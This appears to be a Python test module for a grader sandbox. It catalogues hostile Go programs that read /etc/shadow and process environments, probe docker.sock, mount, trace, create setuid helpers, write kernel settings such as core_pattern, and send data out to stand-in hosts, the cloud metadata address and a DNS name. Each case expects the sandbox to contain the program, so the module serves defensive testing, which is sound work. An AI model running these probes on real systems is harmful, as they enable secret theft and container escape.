"""Programs that read, change or reach the host."""

from __future__ import annotations

from tests.hostile.catalogue import Case, Family, Outcome, Place
from tests.hostile.making import native, program, quoted, source

_STDOUT = "steps/probe-once-native-process/stdout"


def _held(seen: str = "") -> Outcome:
    return Outcome(facts={"native.cli_output@process": "measured"}, prints={_STDOUT: f'"seen": "{seen}"'})


_READ = """
	seen := ""
	paths := []string{%s, "/etc/shadow", "/etc/passwd", "/etc/hostname", "/proc/1/environ", "/proc/self/environ",
		"/proc/1/root/etc/passwd", "/proc/1/cwd/etc/passwd", "/proc/kcore", "/proc/kmsg", "/proc/sched_debug",
		"/proc/../etc/passwd", "/sys/class/dmi/id/product_uuid", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda",
		"/run/docker.sock", "/var/run/docker.sock", "/app/../etc/passwd"}
	for _, path := range paths {
		file, err := os.Open(path)
		if err != nil {
			continue
		}
		head := make([]byte, 64)
		if n, _ := file.Read(head); n > 0 && string(head[:n]) != "MODE=once\\x00PWD=/\\x00" {
			seen += path + " "
		}
	}
	answer(seen)
"""


def _reader(place: Place) -> str:
    aims = (place.canary, place.lock, place.folder / "lab/main.go", place.home)
    return program(_READ % ", ".join(map(quoted, aims)))


_LIST = """
	seen := ""
	for _, path := range []string{%s, "/root", "/home", "/etc", "/run", "/sys", "/var", "/usr", "/src", "/go"} {
		if entries, err := os.ReadDir(path); err == nil {
			seen += fmt.Sprint(path, " ", len(entries), " ")
		}
	}
	answer(seen)
"""


def _lister(place: Place) -> str:
    aims = (place.cache, place.cache.parent, place.folder, place.folder / "lab")
    return program(_LIST % ", ".join(map(quoted, aims)))


_DESCRIPTORS = """
	seen := ""
	target := make([]byte, 256)
	for fd := 3; fd < 1024; fd++ {
		n, err := syscall.Readlink(fmt.Sprint("/proc/self/fd/", fd), target)
		if err == nil && target[0] == '/' {
			seen += string(target[:n]) + " "
		}
	}
	answer(seen)
"""

_LOCK = """
	seen := ""
	for _, path := range []string{%s, "/run/lock/lab-grader.lock"} {
		file, err := os.OpenFile(path, os.O_RDWR|os.O_CREATE, 0o666)
		if err == nil && syscall.Flock(int(file.Fd()), syscall.LOCK_EX|syscall.LOCK_NB) == nil {
			seen += path
		}
	}
	answer(seen)
"""

_MOUNTS = """
	seen := ""
	for _, path := range []string{"/", "/app", "/proc", "/tmp"} {
		if syscall.Mount("none", path, "tmpfs", 0, "") == nil ||
			syscall.Mount("none", path, "", syscall.MS_REMOUNT|syscall.MS_BIND, "") == nil ||
			syscall.Unmount(path, syscall.MNT_DETACH) == nil {
			seen += path + " "
		}
	}
	if syscall.Chroot("/tmp") == nil || syscall.PivotRoot("/tmp", "/tmp") == nil {
		seen += "root"
	}
	answer(seen)
"""

_NAMESPACE = """
	child := exec.Command("/proc/self/exe")
	child.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS}
	seen := ""
	if child.Run() == nil {
		seen = "root in a namespace of its own"
	}
	answer(seen)
"""

_SYSTEM_CALLS = """
	// add_key, request_key, keyctl, bpf, userfaultfd, perf_event_open, io_uring_setup, process_vm_readv, init_module,
	// kexec_load, open_by_handle_at, settimeofday, reboot, swapon, ptrace, setns
	numbers, seen := map[string][]uintptr{
		"amd64": {248, 249, 250, 321, 323, 298, 425, 310, 175, 246, 304, 164, 169, 167, 101, 308},
		"arm64": {217, 218, 219, 280, 282, 241, 425, 270, 105, 104, 265, 170, 142, 224, 117, 268},
	}[runtime.GOARCH], ""
	if numbers == nil {
		seen = "no numbers are known here"
	}
	for _, number := range numbers {
		if _, _, no := syscall.Syscall6(number, 0, 0, 0, 0, 0, 0); no != syscall.EPERM && no != syscall.ENOSYS {
			seen += fmt.Sprint(number, " ", no, "; ")
		}
	}
	answer(seen)
"""

_SETTINGS = """
	seen := ""
	for _, path := range []string{"/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches",
		"/proc/sys/kernel/modprobe", "/proc/1/oom_score_adj", "/proc/self/uid_map", "/sys/fs/cgroup/cgroup.procs"} {
		file, err := os.OpenFile(path, os.O_WRONLY, 0)
		if err != nil {
			continue
		}
		if _, err := file.Write([]byte("0")); err == nil {
			seen += path
		}
	}
	answer(seen)
"""

_SET_ID = """
	if len(os.Args) > 1 {
		fmt.Print(os.Geteuid() == 0)
		return
	}
	self, _ := os.ReadFile("/proc/self/exe")
	os.WriteFile("/tmp/hostile-helper", self, 0o755)
	os.Chmod("/tmp/hostile-helper", os.ModeSetuid|os.ModeSetgid|0o755)
	helper := exec.Command("/tmp/hostile-helper", "x")
	helper.Env = os.Environ()
	out, _ := helper.Output()
	root := syscall.Setuid(0) == nil || syscall.Setgid(0) == nil || os.Chown("/tmp/hostile-helper", 0, 0) == nil
	answer(fmt.Sprint(string(out), " ", root))
"""

_TRACE = """
	if len(os.Args) > 1 {
		time.Sleep(time.Minute)
	}
	child := exec.Command("/proc/self/exe", "wait")
	child.Env = os.Environ()
	child.Start()
	seen := ""
	if syscall.PtraceAttach(child.Process.Pid) == nil || syscall.PtraceAttach(1) == nil {
		seen = "traces"
	}
	child.Process.Kill()
	answer(seen)
"""

_PRIORITY = """
	seen := ""
	if syscall.Setpriority(syscall.PRIO_PROCESS, 0, -20) == nil {
		seen += "first in line "
	}
	parameter := int32(50)
	if _, _, no := syscall.Syscall(syscall.SYS_SCHED_SETSCHEDULER, 0, 1, uintptr(unsafe.Pointer(&parameter))); no == 0 {
		seen += "real time "
	}
	for which := 0; which < 16; which++ {
		all := syscall.Rlimit{Cur: 1 << 40, Max: 1 << 40}
		if which != 1 && which != 4 && which != 7 {
			continue
		}
		if syscall.Setrlimit(which, &all) == nil {
			seen += fmt.Sprint("limit ", which, " ")
		}
	}
	answer(seen)
"""

_PHONE = """
	answer(called)
"""
_PHONE_TOP = """
var called string

func init() {
	for _, address := range []string{%s, "198.51.100.1:80", "169.254.169.254:80", "[::1]:80"} {
		if connection, err := net.DialTimeout("tcp", address, 200*time.Millisecond); err == nil {
			connection.Write([]byte("hostile"))
			called += address
		}
	}
}
"""


def _caller(place: Place) -> str:
    aims = ", ".join(quoted(place.listeners[name]) for name in ("loopback", "routable"))
    return program(_PHONE, "net", top=_PHONE_TOP % aims)


_DNS = """
	seen := ""
	resolver := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
		return net.Dial("udp", %s)
	}}
	within, stop := context.WithTimeout(context.Background(), time.Second)
	defer stop()
	if _, err := resolver.LookupHost(within, "secret.hostile.invalid"); err == nil {
		seen = "resolved"
	}
	if connection, err := net.Dial("udp", %s); err == nil {
		if _, err := connection.Write([]byte("hostile")); err == nil {
			seen += "sent"
		}
	}
	answer(seen)
"""


def _resolver(place: Place) -> str:
    return program(_DNS % ((quoted(place.listeners["datagrams"]),) * 2), "context", "net")


_UNIX = """
	seen := ""
	for _, name := range []string{"@" + %s, "/run/docker.sock", "/run/containerd/containerd.sock",
		"/run/systemd/private", "/run/dbus/system_bus_socket"} {
		if _, err := net.Dial("unix", name); err == nil {
			seen += name
		}
	}
	answer(seen)
"""


def _unix(place: Place) -> str:
    return program(_UNIX % quoted(place.listeners["abstract"]), "net")


_FAMILIES = """
	seen := ""
	for _, family := range []int{16, 17, 38, 40} { // netlink, packet, alg, vsock
		if fd, err := syscall.Socket(family, syscall.SOCK_RAW, 0); err == nil && family != 16 {
			seen += fmt.Sprint(family, " ", fd, " ")
		}
	}
	if _, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, 1); err == nil {
		seen += "raw"
	}
	answer(seen)
"""

FAMILY = Family(
    "host",
    "Files, rights, settings and sockets of the host.",
    (
        Case(
            "reads-secrets",
            "Opens a file of the host by its path, `/etc/shadow`, `/proc/1/environ`, kernel memory, disks and sockets.",
            source(_reader),
            ("mount namespace", "user"),
            _held(),
        ),
        Case(
            "lists-the-host",
            "Lists our cache, the folder of the submission, other submissions and the host's folders.",
            source(_lister),
            ("mount namespace",),
            _held("/etc 1 "),  # the sandbox's own file of hosts
        ),
        Case(
            "left-open-descriptors",
            "Looks for a descriptor that whoever started the grader left open; the arena does leave one open.",
            native(_DESCRIPTORS, "syscall"),
            ("mount namespace",),
            _held(),
        ),
        Case(
            "takes-the-host-lock",
            "Opens and locks the host lock, to stall every grader.",
            source(lambda place: program(_LOCK % quoted(place.lock), "syscall")),
            ("mount namespace",),
            _held(),
        ),
        Case("mounts", "Mounts, remounts, unmounts, changes its root.", native(_MOUNTS, "syscall"), ("user",), _held()),
        Case(
            "user-namespace",
            "Becomes root in a user namespace of its own, where most kernel holes begin.",
            native(_NAMESPACE, "os/exec", "syscall"),
            ("system call filter",),
            _held(),
        ),
        Case(
            "system-calls",
            "Tries sixteen system calls that reach deep into the kernel.",
            native(_SYSTEM_CALLS, "runtime", "syscall"),
            ("system call filter",),
            _held(),
        ),
        Case(
            "kernel-settings",
            "Writes to kernel settings, among them the one that names a program which the kernel starts as root.",
            native(_SETTINGS),
            ("user", "mount namespace"),
            _held(),
        ),
        Case(
            "set-id-helper",
            "Makes itself a set-id program and runs that.",
            native(_SET_ID, "os/exec", "syscall"),
            ("user",),
            _held("false false"),
        ),
        Case(
            "traces",
            "Traces its child and process 1.",
            native(_TRACE, "os/exec", "syscall"),
            ("system call filter",),
            _held(),
        ),
        Case(
            "priority",
            "Asks for real-time priority and lifts its limits on files, memory and processes.",
            native(_PRIORITY, "syscall", "unsafe"),
            ("user",),
            _held(),
        ),
        Case(
            "phones-home",
            "`init()` connects to the host's loopback, its own address, a foreign one and the cloud's metadata server.",
            source(_caller),
            ("network namespace",),
            _held(),
        ),
        Case(
            "dns",
            "Sends a secret out in a DNS question and a datagram.",
            source(_resolver),
            ("network namespace",),
            _held(),
        ),
        Case(
            "unix-sockets",
            "Connects to abstract and named Unix sockets of the host.",
            source(_unix),
            ("network namespace", "mount namespace"),
            _held(),
        ),
        Case(
            "raw-sockets",
            "Opens packet, kernel-crypto, hypervisor and raw sockets.",
            native(_FAMILIES, "syscall"),
            ("system call filter", "user"),
            _held(),
        ),
    ),
)
